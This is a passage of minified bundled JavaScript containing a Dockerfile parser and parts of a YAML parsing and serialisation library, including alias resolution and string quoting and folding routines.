`:u!==-1&&p===-1&&(p=g),d=g;break t;case"	":case" ":u!==-1&&p===-1&&(p=g);continue;default:u===-1&&(u=g);break}if(o===-1)break e;u===-1?(u=c+1,p=d):p===-1&&(p=t.length);let f=xn.Range.create(e.positionAt(r),e.positionAt(d)),h=xn.Range.create(e.positionAt(o),e.positionAt(a)),m=xn.Range.create(e.positionAt(u),e.positionAt(p));s.push(new _x.ParserDirective(e,f,h,m)),o=-1,t.charAt(p)==="\r"?r=p+1:r=p;continue e;default:o===-1&&(o=c);break}}break;default:break e}return s}parse(e){this.document=Nx.TextDocument.create("","",0,e),this.buffer=e;let t=new zx.Dockerfile(this.document),s=this.getParserDirectives(this.document,this.buffer),i=0;this.escapeChar="\\",s.length>0?(t.setDirectives(s),this.escapeChar=t.getEscapeCharacter(),i=this.document.offsetAt(xn.Position.create(s.length,0))):sl.Util.isUTF8BOM(e.substring(0,1))&&(i=1);for(let r=i;r<this.buffer.length;r++){let o=this.buffer.charAt(r);switch(o){case" ":case"	":case"\r":case`
`:break;case"#":r=this.processComment(t,r);break;default:r=this.processInstruction(t,o,r);break}}return t.organizeComments(),t}processInstruction(e,t,s){let i=t,r=-1,o=!1;e:for(let a=s+1;a<this.buffer.length;a++)switch(t=this.buffer.charAt(a),t){case this.escapeChar:if(o=!0,t=this.buffer.charAt(a+1),t==="\r"||t===`
`)r===-1&&(r=a),a++;else if(t===" "||t==="	"){for(let c=a+2;c<this.buffer.length;c++)switch(this.buffer.charAt(c)){case" ":case"	":break;case"\r":case`
`:a=c;continue e;default:r=a+1,i=i+this.escapeChar,a=c-2;continue e}r=a+1,i=i+this.escapeChar;break e}else r=a+1,i=i+this.escapeChar,o=!1;break;case" ":case"	":if(o){t:for(let c=a+1;c<this.buffer.length;c++)switch(this.buffer.charAt(c)){case" ":case"	":break;case"\r":case`
`:a=c;continue e;default:break t}o=!1}return r===-1&&(r=a),a=this.processArguments(e,i,r,s,a),e.addInstruction(this.createInstruction(e,i,s,r,a)),a;case"\r":case`
`:if(o)continue;return r===-1&&(r=a),e.addInstruction(this.createInstruction(e,i,s,a,a)),a;case"#":if(o)continue;default:r=a+1,i=i+t,o=!1;break}return r===-1&&(r=this.buffer.length),e.addInstruction(this.createInstruction(e,i,s,r,this.buffer.length)),this.buffer.length}processHeredocs(e,t){let s=e.getKeyword();if(s===Qr.Keyword.ONBUILD){if(e=e.getTriggerInstruction(),e===null)return t;s=e.getKeyword()}if(s!==Qr.Keyword.ADD&&s!==Qr.Keyword.COPY&&s!==Qr.Keyword.RUN)return t;let i=[],r=!1;for(let o of e.getArguments()){let a=o.getValue();if(a.startsWith("<<")&&a.length>2){a.startsWith("<<-")&&(r=!0);let c=sl.Util.parseHeredocName(a);c!==null&&i.push(c)}}if(i.length>0)for(let o of i)t=this.parseHeredoc(o,t,r);return t}processArguments(e,t,s,i,r){let o=!1;e:for(let a=r+1;a<this.buffer.length;a++)switch(this.buffer.charAt(a)){case"\r":case`
`:if(o)continue;return this.processHeredocs(this.createInstruction(e,t,i,s,a),a);case this.escapeChar:let c=this.buffer.charAt(a+1);if(c===`
`||c==="\r")o=!0,a++;else if(c===" "||c==="	"){for(let l=a+2;l<this.buffer.length;l++)switch(this.buffer.charAt(l)){case" ":case"	":break;case"\r":case`
`:o=!0;default:a=l;continue e}return this.buffer.length}continue;case"#":if(o){a=this.processComment(e,a);continue e}break;case" ":case"	":break;default:o&&(o=!1);break}return this.buffer.length}processComment(e,t){let s=this.buffer.length;e:for(let r=t+1;r<this.buffer.length;r++)switch(this.buffer.charAt(r)){case"\r":case`
`:s=r;break e}let i=xn.Range.create(this.document.positionAt(t),this.document.positionAt(s));return e.addComment(new Ex.Comment(this.document,i)),s}parseHeredoc(e,t,s){let i=-1,r=!0;for(let o=t;o<this.buffer.length;o++)switch(this.buffer.charAt(o)){case" ":r=!1;break;case"	":s||(r=!1);break;case"\r":case`
`:if(i!==-1&&e===this.buffer.substring(i,o))return o;i=-1,r=!0;break;default:r&&(i=o,r=!1);break}return this.buffer.length}createInstruction(e,t,s,i,r){let o=this.document.positionAt(s),a=xn.Range.create(o,this.document.positionAt(i)),c=xn.Range.create(o,this.document.positionAt(r));return n.createInstruction(this.document,e,this.escapeChar,c,t,a)}};eo.Parser=il});var bn=D(j=>{"use strict";Object.defineProperty(j,"__esModule",{value:!0});j.DockerfileParser=j.DefaultVariables=j.Directive=j.Keyword=j.Workdir=j.Volume=j.User=j.Stopsignal=j.Shell=j.Run=j.PropertyInstruction=j.Onbuild=j.ModifiableInstruction=j.Label=j.JSONInstruction=j.Heredoc=j.Healthcheck=j.From=j.Env=j.Entrypoint=j.Copy=j.Cmd=j.Arg=j.Add=j.Variable=j.Property=j.ParserDirective=j.Line=j.Instruction=j.Flag=j.Comment=j.JSONArgument=j.Argument=void 0;var Kx=zn();Object.defineProperty(j,"Argument",{enumerable:!0,get:function(){return Kx.Argument}});var Jx=lc();Object.defineProperty(j,"JSONArgument",{enumerable:!0,get:function(){return Jx.JSONArgument}});var Xx=fc();Object.defineProperty(j,"Comment",{enumerable:!0,get:function(){return Xx.Comment}});var Zx=Hc(),Qx=Oc();Object.defineProperty(j,"Flag",{enumerable:!0,get:function(){return Qx.Flag}});var eR=$t();Object.defineProperty(j,"Instruction",{enumerable:!0,get:function(){return eR.Instruction}});var tR=js();Object.defineProperty(j,"Line",{enumerable:!0,get:function(){return tR.Line}});var nR=mc();Object.defineProperty(j,"ParserDirective",{enumerable:!0,get:function(){return nR.ParserDirective}});var sR=Mr();Object.defineProperty(j,"Property",{enumerable:!0,get:function(){return sR.Property}});var iR=wc();Object.defineProperty(j,"Variable",{enumerable:!0,get:function(){return iR.Variable}});var rR=Ec();Object.defineProperty(j,"Add",{enumerable:!0,get:function(){return rR.Add}});var oR=Er();Object.defineProperty(j,"Arg",{enumerable:!0,get:function(){return oR.Arg}});var aR=$r();Object.defineProperty(j,"Cmd",{enumerable:!0,get:function(){return aR.Cmd}});var cR=Dr();Object.defineProperty(j,"Copy",{enumerable:!0,get:function(){return cR.Copy}});var lR=Ir();Object.defineProperty(j,"Entrypoint",{enumerable:!0,get:function(){return lR.Entrypoint}});var uR=Tr();Object.defineProperty(j,"Env",{enumerable:!0,get:function(){return uR.Env}});var pR=Bs();Object.defineProperty(j,"From",{enumerable:!0,get:function(){return pR.From}});var dR=qr();Object.defineProperty(j,"Healthcheck",{enumerable:!0,get:function(){return dR.Healthcheck}});var fR=yc();Object.defineProperty(j,"Heredoc",{enumerable:!0,get:function(){return fR.Heredoc}});var hR=Ct();Object.defineProperty(j,"JSONInstruction",{enumerable:!0,get:function(){return hR.JSONInstruction}});var mR=qc();Object.defineProperty(j,"Label",{enumerable:!0,get:function(){return mR.Label}});var gR=Ys();Object.defineProperty(j,"ModifiableInstruction",{enumerable:!0,get:function(){return gR.ModifiableInstruction}});var yR=Yr();Object.defineProperty(j,"Onbuild",{enumerable:!0,get:function(){return yR.Onbuild}});var bR=Ws();Object.defineProperty(j,"PropertyInstruction",{enumerable:!0,get:function(){return bR.PropertyInstruction}});var wR=Wc();Object.defineProperty(j,"Run",{enumerable:!0,get:function(){return wR.Run}});var vR=Gc();Object.defineProperty(j,"Shell",{enumerable:!0,get:function(){return vR.Shell}});var kR=zc();Object.defineProperty(j,"Stopsignal",{enumerable:!0,get:function(){return kR.Stopsignal}});var xR=Xc();Object.defineProperty(j,"User",{enumerable:!0,get:function(){return xR.User}});var RR=Qc();Object.defineProperty(j,"Volume",{enumerable:!0,get:function(){return RR.Volume}});var OR=zr();Object.defineProperty(j,"Workdir",{enumerable:!0,get:function(){return OR.Workdir}});var Sf;(function(n){n.ADD="ADD",n.ARG="ARG",n.CMD="CMD",n.COPY="COPY",n.ENTRYPOINT="ENTRYPOINT",n.ENV="ENV",n.EXPOSE="EXPOSE",n.FROM="FROM",n.HEALTHCHECK="HEALTHCHECK",n.LABEL="LABEL",n.MAINTAINER="MAINTAINER",n.ONBUILD="ONBUILD",n.RUN="RUN",n.SHELL="SHELL",n.STOPSIGNAL="STOPSIGNAL",n.USER="USER",n.VOLUME="VOLUME",n.WORKDIR="WORKDIR"})(Sf||(j.Keyword=Sf={}));var Mf;(function(n){n.escape="escape",n.syntax="syntax"})(Mf||(j.Directive=Mf={}));j.DefaultVariables=["ALL_PROXY","all_proxy","FTP_PROXY","ftp_proxy","HTTP_PROXY","http_proxy","HTTPS_PROXY","https_proxy","NO_PROXY","no_proxy"];var Af;(function(n){function e(t){return new Zx.Parser().parse(t)}n.parse=e})(Af||(j.DockerfileParser=Af={}))});var ee=D($e=>{"use strict";var Tl=Symbol.for("yaml.alias"),Km=Symbol.for("yaml.document"),vo=Symbol.for("yaml.map"),Jm=Symbol.for("yaml.pair"),Ll=Symbol.for("yaml.scalar"),ko=Symbol.for("yaml.seq"),Tt=Symbol.for("yaml.node.type"),WS=n=>!!n&&typeof n=="object"&&n[Tt]===Tl,BS=n=>!!n&&typeof n=="object"&&n[Tt]===Km,GS=n=>!!n&&typeof n=="object"&&n[Tt]===vo,VS=n=>!!n&&typeof n=="object"&&n[Tt]===Jm,Xm=n=>!!n&&typeof n=="object"&&n[Tt]===Ll,zS=n=>!!n&&typeof n=="object"&&n[Tt]===ko;function Zm(n){if(n&&typeof n=="object")switch(n[Tt]){case vo:case ko:return!0}return!1}function KS(n){if(n&&typeof n=="object")switch(n[Tt]){case Tl:case vo:case Ll:case ko:return!0}return!1}var JS=n=>(Xm(n)||Zm(n))&&!!n.anchor;$e.ALIAS=Tl;$e.DOC=Km;$e.MAP=vo;$e.NODE_TYPE=Tt;$e.PAIR=Jm;$e.SCALAR=Ll;$e.SEQ=ko;$e.hasAnchor=JS;$e.isAlias=WS;$e.isCollection=Zm;$e.isDocument=BS;$e.isMap=GS;$e.isNode=KS;$e.isPair=VS;$e.isScalar=Xm;$e.isSeq=zS});var ni=D(Il=>{"use strict";var Se=ee(),Be=Symbol("break visit"),Qm=Symbol("skip children"),Mt=Symbol("remove node");function xo(n,e){let t=eg(e);Se.isDocument(n)?ls(null,n.contents,t,Object.freeze([n]))===Mt&&(n.contents=null):ls(null,n,t,Object.freeze([]))}xo.BREAK=Be;xo.SKIP=Qm;xo.REMOVE=Mt;function ls(n,e,t,s){let i=tg(n,e,t,s);if(Se.isNode(i)||Se.isPair(i))return ng(n,s,i),ls(n,i,t,s);if(typeof i!="symbol"){if(Se.isCollection(e)){s=Object.freeze(s.concat(e));for(let r=0;r<e.items.length;++r){let o=ls(r,e.items[r],t,s);if(typeof o=="number")r=o-1;else{if(o===Be)return Be;o===Mt&&(e.items.splice(r,1),r-=1)}}}else if(Se.isPair(e)){s=Object.freeze(s.concat(e));let r=ls("key",e.key,t,s);if(r===Be)return Be;r===Mt&&(e.key=null);let o=ls("value",e.value,t,s);if(o===Be)return Be;o===Mt&&(e.value=null)}}return i}async function Ro(n,e){let t=eg(e);Se.isDocument(n)?await us(null,n.contents,t,Object.freeze([n]))===Mt&&(n.contents=null):await us(null,n,t,Object.freeze([]))}Ro.BREAK=Be;Ro.SKIP=Qm;Ro.REMOVE=Mt;async function us(n,e,t,s){let i=await tg(n,e,t,s);if(Se.isNode(i)||Se.isPair(i))return ng(n,s,i),us(n,i,t,s);if(typeof i!="symbol"){if(Se.isCollection(e)){s=Object.freeze(s.concat(e));for(let r=0;r<e.items.length;++r){let o=await us(r,e.items[r],t,s);if(typeof o=="number")r=o-1;else{if(o===Be)return Be;o===Mt&&(e.items.splice(r,1),r-=1)}}}else if(Se.isPair(e)){s=Object.freeze(s.concat(e));let r=await us("key",e.key,t,s);if(r===Be)return Be;r===Mt&&(e.key=null);let o=await us("value",e.value,t,s);if(o===Be)return Be;o===Mt&&(e.value=null)}}return i}function eg(n){return typeof n=="object"&&(n.Collection||n.Node||n.Value)?Object.assign({Alias:n.Node,Map:n.Node,Scalar:n.Node,Seq:n.Node},n.Value&&{Map:n.Value,Scalar:n.Value,Seq:n.Value},n.Collection&&{Map:n.Collection,Seq:n.Collection},n):n}function tg(n,e,t,s){if(typeof t=="function")return t(n,e,s);if(Se.isMap(e))return t.Map?.(n,e,s);if(Se.isSeq(e))return t.Seq?.(n,e,s);if(Se.isPair(e))return t.Pair?.(n,e,s);if(Se.isScalar(e))return t.Scalar?.(n,e,s);if(Se.isAlias(e))return t.Alias?.(n,e,s)}function ng(n,e,t){let s=e[e.length-1];if(Se.isCollection(s))s.items[n]=t;else if(Se.isPair(s))n==="key"?s.key=t:s.value=t;else if(Se.isDocument(s))s.contents=t;else{let i=Se.isAlias(s)?"alias":"scalar";throw new Error(`Cannot replace node with ${i} parent`)}}Il.visit=xo;Il.visitAsync=Ro});var Pl=D(ig=>{"use strict";var sg=ee(),XS=ni(),ZS={"!":"%21",",":"%2C","[":"%5B","]":"%5D","{":"%7B","}":"%7D"},QS=n=>n.replace(/[!,[\]{}]/g,e=>ZS[e]),si=class n{constructor(e,t){this.docStart=null,this.docEnd=!1,this.yaml=Object.assign({},n.defaultYaml,e),this.tags=Object.assign({},n.defaultTags,t)}clone(){let e=new n(this.yaml,this.tags);return e.docStart=this.docStart,e}atDocument(){let e=new n(this.yaml,this.tags);switch(this.yaml.version){case"1.1":this.atNextDocument=!0;break;case"1.2":this.atNextDocument=!1,this.yaml={explicit:n.defaultYaml.explicit,version:"1.2"},this.tags=Object.assign({},n.defaultTags);break}return e}add(e,t){this.atNextDocument&&(this.yaml={explicit:n.defaultYaml.explicit,version:"1.1"},this.tags=Object.assign({},n.defaultTags),this.atNextDocument=!1);let s=e.trim().split(/[ \t]+/),i=s.shift();switch(i){case"%TAG":{if(s.length!==2&&(t(0,"%TAG directive should contain exactly two parts"),s.length<2))return!1;let[r,o]=s;return this.tags[r]=o,!0}case"%YAML":{if(this.yaml.explicit=!0,s.length!==1)return t(0,"%YAML directive should contain exactly one part"),!1;let[r]=s;if(r==="1.1"||r==="1.2")return this.yaml.version=r,!0;{let o=/^\d+\.\d+$/.test(r);return t(6,`Unsupported YAML version ${r}`,o),!1}}default:return t(0,`Unknown directive ${i}`,!0),!1}}tagName(e,t){if(e==="!")return"!";if(e[0]!=="!")return t(`Not a valid tag: ${e}`),null;if(e[1]==="<"){let o=e.slice(2,-1);return o==="!"||o==="!!"?(t(`Verbatim tags aren't resolved, so ${e} is invalid.`),null):(e[e.length-1]!==">"&&t("Verbatim tags must end with a >"),o)}let[,s,i]=e.match(/^(.*!)([^!]*)$/s);i||t(`The ${e} tag has no suffix`);let r=this.tags[s];if(r)try{return r+decodeURIComponent(i)}catch(o){return t(String(o)),null}return s==="!"?e:(t(`Could not resolve tag: ${e}`),null)}tagString(e){for(let[t,s]of Object.entries(this.tags))if(e.startsWith(s))return t+QS(e.substring(s.length));return e[0]==="!"?e:`!<${e}>`}toString(e){let t=this.yaml.explicit?[`%YAML ${this.yaml.version||"1.2"}`]:[],s=Object.entries(this.tags),i;if(e&&s.length>0&&sg.isNode(e.contents)){let r={};XS.visit(e.contents,(o,a)=>{sg.isNode(a)&&a.tag&&(r[a.tag]=!0)}),i=Object.keys(r)}else i=[];for(let[r,o]of s)r==="!!"&&o==="tag:yaml.org,2002:"||(!e||i.some(a=>a.startsWith(o)))&&t.push(`%TAG ${r} ${o}`);return t.join(`
`)}};si.defaultYaml={explicit:!1,version:"1.2"};si.defaultTags={"!!":"tag:yaml.org,2002:"};ig.Directives=si});var Oo=D(ii=>{"use strict";var rg=ee(),eM=ni();function tM(n){if(/[\x00-\x19\s,[\]{}]/.test(n)){let t=`Anchor must not contain whitespace or control characters: ${JSON.stringify(n)}`;throw new Error(t)}return!0}function og(n){let e=new Set;return eM.visit(n,{Value(t,s){s.anchor&&e.add(s.anchor)}}),e}function ag(n,e){for(let t=1;;++t){let s=`${n}${t}`;if(!e.has(s))return s}}function nM(n,e){let t=[],s=new Map,i=null;return{onAnchor:r=>{t.push(r),i??(i=og(n));let o=ag(e,i);return i.add(o),o},setAnchors:()=>{for(let r of t){let o=s.get(r);if(typeof o=="object"&&o.anchor&&(rg.isScalar(o.node)||rg.isCollection(o.node)))o.node.anchor=o.anchor;else{let a=new Error("Failed to resolve repeated object (this should not happen)");throw a.source=r,a}}},sourceObjects:s}}ii.anchorIsValid=tM;ii.anchorNames=og;ii.createNodeAnchors=nM;ii.findNewAnchor=ag});var jl=D(cg=>{"use strict";function ri(n,e,t,s){if(s&&typeof s=="object")if(Array.isArray(s))for(let i=0,r=s.length;i<r;++i){let o=s[i],a=ri(n,s,String(i),o);a===void 0?delete s[i]:a!==o&&(s[i]=a)}else if(s instanceof Map)for(let i of Array.from(s.keys())){let r=s.get(i),o=ri(n,s,i,r);o===void 0?s.delete(i):o!==r&&s.set(i,o)}else if(s instanceof Set)for(let i of Array.from(s)){let r=ri(n,s,i,i);r===void 0?s.delete(i):r!==i&&(s.delete(i),s.add(r))}else for(let[i,r]of Object.entries(s)){let o=ri(n,s,i,r);o===void 0?delete s[i]:o!==r&&(s[i]=o)}return n.call(e,t,s)}cg.applyReviver=ri});var Vt=D(ug=>{"use strict";var sM=ee();function lg(n,e,t){if(Array.isArray(n))return n.map((s,i)=>lg(s,String(i),t));if(n&&typeof n.toJSON=="function"){if(!t||!sM.hasAnchor(n))return n.toJSON(e,t);let s={aliasCount:0,count:1,res:void 0};t.anchors.set(n,s),t.onCreate=r=>{s.res=r,delete t.onCreate};let i=n.toJSON(e,t);return t.onCreate&&t.onCreate(i),i}return typeof n=="bigint"&&!t?.keep?Number(n):n}ug.toJS=lg});var So=D(dg=>{"use strict";var iM=jl(),pg=ee(),rM=Vt(),ql=class{constructor(e){Object.defineProperty(this,pg.NODE_TYPE,{value:e})}clone(){let e=Object.create(Object.getPrototypeOf(this),Object.getOwnPropertyDescriptors(this));return this.range&&(e.range=this.range.slice()),e}toJS(e,{mapAsMap:t,maxAliasCount:s,onAnchor:i,reviver:r}={}){if(!pg.isDocument(e))throw new TypeError("A document argument is required");let o={anchors:new Map,doc:e,keep:!0,mapAsMap:t===!0,mapKeyWarned:!1,maxAliasCount:typeof s=="number"?s:100},a=rM.toJS(this,"",o);if(typeof i=="function")for(let{count:c,res:l}of o.anchors.values())i(l,c);return typeof r=="function"?iM.applyReviver(r,{"":a},"",a):a}};dg.NodeBase=ql});var oi=D(fg=>{"use strict";var oM=Oo(),aM=ni(),ps=ee(),cM=So(),lM=Vt(),Ul=class extends cM.NodeBase{constructor(e){super(ps.ALIAS),this.source=e,Object.defineProperty(this,"tag",{set(){throw new Error("Alias nodes cannot have tags")}})}resolve(e,t){if(t?.maxAliasCount===0)throw new ReferenceError("Alias resolution is disabled");let s;t?.aliasResolveCache?s=t.aliasResolveCache:(s=[],aM.visit(e,{Node:(r,o)=>{(ps.isAlias(o)||ps.hasAnchor(o))&&s.push(o)}}),t&&(t.aliasResolveCache=s));let i;for(let r of s){if(r===this)break;r.anchor===this.source&&(i=r)}if(i&&t){let{anchors:r,doc:o,maxAliasCount:a}=t,c=r.get(i);if(c||(lM.toJS(i,null,t),c=r.get(i)),c?.res===void 0){let l="This should not happen: Alias anchor was not resolved?";throw new ReferenceError(l)}if(a>=0&&(c.count+=1,c.aliasCount===0&&(c.aliasCount=Mo(o,i,r)),c.count*c.aliasCount>a)){let l="Excessive alias count indicates a resource exhaustion attack";throw new ReferenceError(l)}}return i}toJSON(e,t){if(!t)return{source:this.source};let s=this.resolve(t.doc,t);if(!s){let i=`Unresolved alias (the anchor must be set before the alias): ${this.source}`;throw new ReferenceError(i)}return t.anchors.get(s).res}toString(e,t,s){let i=`*${this.source}`;if(e){if(oM.anchorIsValid(this.source),e.options.verifyAliasOrder&&!e.anchors.has(this.source)){let r=`Unresolved alias (the anchor must be set before the alias): ${this.source}`;throw new Error(r)}if(e.implicitKey)return`${i} `}return i}};function Mo(n,e,t){if(ps.isAlias(e)){let s=e.resolve(n),i=t&&s&&t.get(s);return i?i.count*i.aliasCount:0}else if(ps.isCollection(e)){let s=0;for(let i of e.items){let r=Mo(n,i,t);r>s&&(s=r)}return s}else if(ps.isPair(e)){let s=Mo(n,e.key,t),i=Mo(n,e.value,t);return Math.max(s,i)}return 1}fg.Alias=Ul});var Re=D(Hl=>{"use strict";var uM=ee(),pM=So(),dM=Vt(),fM=n=>!n||typeof n!="function"&&typeof n!="object",zt=class extends pM.NodeBase{constructor(e){super(uM.SCALAR),this.value=e}toJSON(e,t){return t?.keep?this.value:dM.toJS(this.value,e,t)}toString(){return String(this.value)}};zt.BLOCK_FOLDED="BLOCK_FOLDED";zt.BLOCK_LITERAL="BLOCK_LITERAL";zt.PLAIN="PLAIN";zt.QUOTE_DOUBLE="QUOTE_DOUBLE";zt.QUOTE_SINGLE="QUOTE_SINGLE";Hl.Scalar=zt;Hl.isScalarValue=fM});var ai=D(mg=>{"use strict";var hM=oi(),On=ee(),hg=Re(),mM="tag:yaml.org,2002:";function gM(n,e,t){if(e){let s=t.filter(r=>r.tag===e),i=s.find(r=>!r.format)??s[0];if(!i)throw new Error(`Tag ${e} not found`);return i}return t.find(s=>s.identify?.(n)&&!s.format)}function yM(n,e,t){if(On.isDocument(n)&&(n=n.contents),On.isNode(n))return n;if(On.isPair(n)){let p=t.schema[On.MAP].createNode?.(t.schema,null,t);return p.items.push(n),p}(n instanceof String||n instanceof Number||n instanceof Boolean||typeof BigInt<"u"&&n instanceof BigInt)&&(n=n.valueOf());let{aliasDuplicateObjects:s,onAnchor:i,onTagObj:r,schema:o,sourceObjects:a}=t,c;if(s&&n&&typeof n=="object"){if(c=a.get(n),c)return c.anchor??(c.anchor=i(n)),new hM.Alias(c.anchor);c={anchor:null,node:null},a.set(n,c)}e?.startsWith("!!")&&(e=mM+e.slice(2));let l=gM(n,e,o.tags);if(!l){if(n&&typeof n.toJSON=="function"&&(n=n.toJSON()),!n||typeof n!="object"){let p=new hg.Scalar(n);return c&&(c.node=p),p}l=n instanceof Map?o[On.MAP]:Symbol.iterator in Object(n)?o[On.SEQ]:o[On.MAP]}r&&(r(l),delete t.onTagObj);let u=l?.createNode?l.createNode(t.schema,n,t):typeof l?.nodeClass?.from=="function"?l.nodeClass.from(t.schema,n,t):new hg.Scalar(n);return e?u.tag=e:l.default||(u.tag=l.tag),c&&(c.node=u),u}mg.createNode=yM});var No=D(Ao=>{"use strict";var bM=ai(),At=ee(),wM=So();function Yl(n,e,t){let s=t;for(let i=e.length-1;i>=0;--i){let r=e[i];if(typeof r=="number"&&Number.isInteger(r)&&r>=0){let o=[];o[r]=s,s=o}else s=new Map([[r,s]])}return bM.createNode(s,void 0,{aliasDuplicateObjects:!1,keepUndefined:!1,onAnchor:()=>{throw new Error("This should not happen, please report a bug.")},schema:n,sourceObjects:new Map})}var gg=n=>n==null||typeof n=="object"&&!!n[Symbol.iterator]().next().done,Wl=class extends wM.NodeBase{constructor(e,t){super(e),Object.defineProperty(this,"schema",{value:t,configurable:!0,enumerable:!1,writable:!0})}clone(e){let t=Object.create(Object.getPrototypeOf(this),Object.getOwnPropertyDescriptors(this));return e&&(t.schema=e),t.items=t.items.map(s=>At.isNode(s)||At.isPair(s)?s.clone(e):s),this.range&&(t.range=this.range.slice()),t}addIn(e,t){if(gg(e))this.add(t);else{let[s,...i]=e,r=this.get(s,!0);if(At.isCollection(r))r.addIn(i,t);else if(r===void 0&&this.schema)this.set(s,Yl(this.schema,i,t));else throw new Error(`Expected YAML collection at ${s}. Remaining path: ${i}`)}}deleteIn(e){let[t,...s]=e;if(s.length===0)return this.delete(t);let i=this.get(t,!0);if(At.isCollection(i))return i.deleteIn(s);throw new Error(`Expected YAML collection at ${t}. Remaining path: ${s}`)}getIn(e,t){let[s,...i]=e,r=this.get(s,!0);return i.length===0?!t&&At.isScalar(r)?r.value:r:At.isCollection(r)?r.getIn(i,t):void 0}hasAllNullValues(e){return this.items.every(t=>{if(!At.isPair(t))return!1;let s=t.value;return s==null||e&&At.isScalar(s)&&s.value==null&&!s.commentBefore&&!s.comment&&!s.tag})}hasIn(e){let[t,...s]=e;if(s.length===0)return this.has(t);let i=this.get(t,!0);return At.isCollection(i)?i.hasIn(s):!1}setIn(e,t){let[s,...i]=e;if(i.length===0)this.set(s,t);else{let r=this.get(s,!0);if(At.isCollection(r))r.setIn(i,t);else if(r===void 0&&this.schema)this.set(s,Yl(this.schema,i,t));else throw new Error(`Expected YAML collection at ${s}. Remaining path: ${i}`)}}};Ao.Collection=Wl;Ao.collectionFromPath=Yl;Ao.isEmptyPath=gg});var ci=D(Eo=>{"use strict";var vM=n=>n.replace(/^(?!$)(?: $)?/gm,"#");function Bl(n,e){return/^\n+$/.test(n)?n.substring(1):e?n.replace(/^(?! *$)/gm,e):n}var kM=(n,e,t)=>n.endsWith(`
`)?Bl(t,e):t.includes(`
`)?`
`+Bl(t,e):(n.endsWith(" ")?"":" ")+t;Eo.indentComment=Bl;Eo.lineComment=kM;Eo.stringifyComment=vM});var bg=D(li=>{"use strict";var xM="flow",Gl="block",_o="quoted";function RM(n,e,t="flow",{indentAtStart:s,lineWidth:i=80,minContentWidth:r=20,onFold:o,onOverflow:a}={}){if(!i||i<0)return n;i<r&&(r=0);let c=Math.max(1+r,1+i-e.length);if(n.length<=c)return n;let l=[],u={},p=i-e.length;typeof s=="number"&&(s>i-Math.max(2,r)?l.push(0):p=i-s);let d,f,h=!1,m=-1,g=-1,w=-1;t===Gl&&(m=yg(n,m,e.length),m!==-1&&(p=m+c));for(let O;O=n[m+=1];){if(t===_o&&O==="\\"){switch(g=m,n[m+1]){case"x":m+=3;break;case"u":m+=5;break;case"U":m+=9;break;default:m+=1}w=m}if(O===`
`)t===Gl&&(m=yg(n,m,e.length)),p=m+e.length+c,d=void 0;else{if(O===" "&&f&&f!==" "&&f!==`
`&&f!=="	"){let S=n[m+1];S&&S!==" "&&S!==`
`&&S!=="	"&&(d=m)}if(m>=p)if(d)l.push(d),p=d+c,d=void 0;else if(t===_o){for(;f===" "||f==="	";)f=O,O=n[m+=1],h=!0;let S=m>w+1?m-2:g-1;if(u[S])return n;l.push(S),u[S]=!0,p=S+c,d=void 0}else h=!0}f=O}if(h&&a&&a(),l.length===0)return n;o&&o();let v=n.slice(0,l[0]);for(let O=0;O<l.length;++O){let S=l[O],A=l[O+1]||n.length;S===0?v=`
${e}${n.slice(0,A)}`:(t===_o&&u[S]&&(v+=`${n[S]}\\`),v+=`
${e}${n.slice(S+1,A)}`)}return v}function yg(n,e,t){let s=e,i=e+1,r=n[i];for(;r===" "||r==="	";)if(e<i+t)r=n[++e];else{do r=n[++e];while(r&&r!==`
`);s=e,i=e+1,r=n[i]}return s}li.FOLD_BLOCK=Gl;li.FOLD_FLOW=xM;li.FOLD_QUOTED=_o;li.foldFlowLines=RM});var pi=D(wg=>{"use strict";var ht=Re(),Kt=bg(),Co=(n,e)=>({indentAtStart:e?n.indent.length:n.indentAtStart,lineWidth:n.options.lineWidth,minContentWidth:n.options.minContentWidth}),Do=n=>/^(%|---|\.\.\.)/m.test(n);function OM(n,e,t){if(!e||e<0)return!1;let s=e-t,i=n.length;if(i<=s)return!1;for(let r=0,o=0;r<i;++r)if(n[r]===`
`){if(r-o>s)return!0;if(o=r+1,i-o<=s)return!1}return!0}function ui(n,e){let t=JSON.stringify(n);if(e.options.doubleQuotedAsJSON)return t;let{implicitKey:s}=e,i=e.options.doubleQuotedMinMultiLineLength,r=e.indent||(Do(n)?"  ":""),o="",a=0;for(let c=0,l=t[c];l;l=t[++c])if(l===" "&&t[c+1]==="\\"&&t[c+2]==="n"&&(o+=t.slice(a,c)+"\\ ",c+=1,a=c,l="\\"),l==="\\")switch(t[c+1]){case"u":{o+=t.slice(a,c);let u=t.substr(c+2,4);switch(u){case"0000":o+="\\0";break;case"0007":o+="\\a";break;case"000b":o+="\\v";break;case"001b":o+="\\e";break;case"0085":o+="\\N";break;case"00a0":o+="\\_";break;case"2028":o+="\\L";break;case"2029":o+="\\P";break;default:u.substr(0,2)==="00"?o+="\\x"+u.substr(2):o+=t.substr(c,6)}c+=5,a=c+1}break;case"n":if(s||t[c+2]==='"'||t.length<i)c+=1;else{for(o+=t.slice(a,c)+`

`;t[c+2]==="\\"&&t[c+3]==="n"&&t[c+4]!=='"';)o+=`
`,c+=2;o+=r,t[c+2]===" "&&(o+="\\"),c+=1,a=c+1}break;default:c+=1}return o=a?o+t.slice(a):t,s?o:Kt.foldFlowLines(o,r,Kt.FOLD_QUOTED,Co(e,!1))}function Vl(n,e){if(e.options.singleQuote===!1||e.implicitKey&&n.includes(`
`)||/[ \t]\n|\n[ \t]/.test(n))return ui(n,e);let t=e.indent||(Do(n)?"  ":""),s="'"+n.replace(/'/g,"''").replace(/\n+/g,`$&
${t}`)+"'";return e.implicitKey?s:Kt.foldFlowLines(s,t,Kt.FOLD_FLOW,Co(e,!1))}function ds(n,e){let{singleQuote:t}=e.options,s;if(t===!1)s=ui;else{let i=n.includes('"'),r=n.includes("'");i&&!r?s=Vl:r&&!i?s=ui:s=t?Vl:ui}return s(n,e)}var zl;try{zl=new RegExp(`(^|(?<!
))
+(?!
|$)`,"g")}catch{zl=/\n+(?!\n|$)/g}function $o({comment:n,type:e,value:t},s,i,r){let{blockQuote:o,commentString:a,lineWidth:c}=s.options;if(!o||/\n[\t ]+$/.test(t))return ds(t,s);let l=s.indent||(s.forceBlockIndent||Do(t)?"  ":""),u=o==="literal"?!0:o==="folded"||e===ht.Scalar.BLOCK_FOLDED?!1:e===ht.Scalar.BLOCK_LITERAL?!0:!OM(t,c,l.length);if(!t)return u?`|
`:`>
`;let p,d;for(d=t.length;d>0;--d){let A=t[d-1];if(A!==`
`&&A!=="	"&&A!==" ")break}let f=t.substring(d),h=f.indexOf(`
